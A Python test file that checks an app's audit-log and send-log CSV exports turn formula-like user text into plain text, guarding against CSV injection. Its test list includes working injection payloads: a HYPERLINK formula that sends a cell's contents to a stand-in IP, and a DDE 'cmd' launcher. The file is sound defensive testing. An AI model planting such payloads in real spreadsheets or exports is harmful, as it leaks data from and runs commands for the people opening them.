"""Every CSV an admin or legal reviewer downloads (the audit log, the send log) opens in a
spreadsheet without running anything a user typed: a username, a display name or an audit detail
that starts like a formula is shown as text (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from clearnotice import audit, send_log
from clearnotice.csv_safety import FORMULA_START, looks_like_formula, neutralise_formula
from clearnotice.schema import AuditEvent, SendRecord

# Each leading character OWASP lists, after spaces too, and the full-width forms Excel also reads.
HOSTILE = [
    '=HYPERLINK("http://198.51.100.7/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1d1+1",
]
AT = datetime(2026, 12, 1, tzinfo=UTC)


def _cells(text: str) -> list[str]:
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value):
    assert looks_like_formula(value)
    assert neutralise_formula(value) == "'" + value
    assert not neutralise_formula(value).startswith(FORMULA_START)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_audit_log_csv_runs_no_user_text(value):
    event = AuditEvent(at=AT, actor=value, action="sign-in-failed", letter_id=None, detail=value)
    written = _cells(audit.to_csv([event]))
    assert written.count("'" + value) == 2


@pytest.mark.parametrize("value", HOSTILE)
def test_the_send_log_csv_runs_no_user_text(value):
    record = SendRecord(
        at=AT, actor=value, service=value, letter_id=1, version_id=2, characters=3, sha256="ab"
    )
    written = _cells(send_log.to_csv([record]))
    assert written.count("'" + value) == 2
    assert not [cell for cell in written if looks_like_formula(cell)]
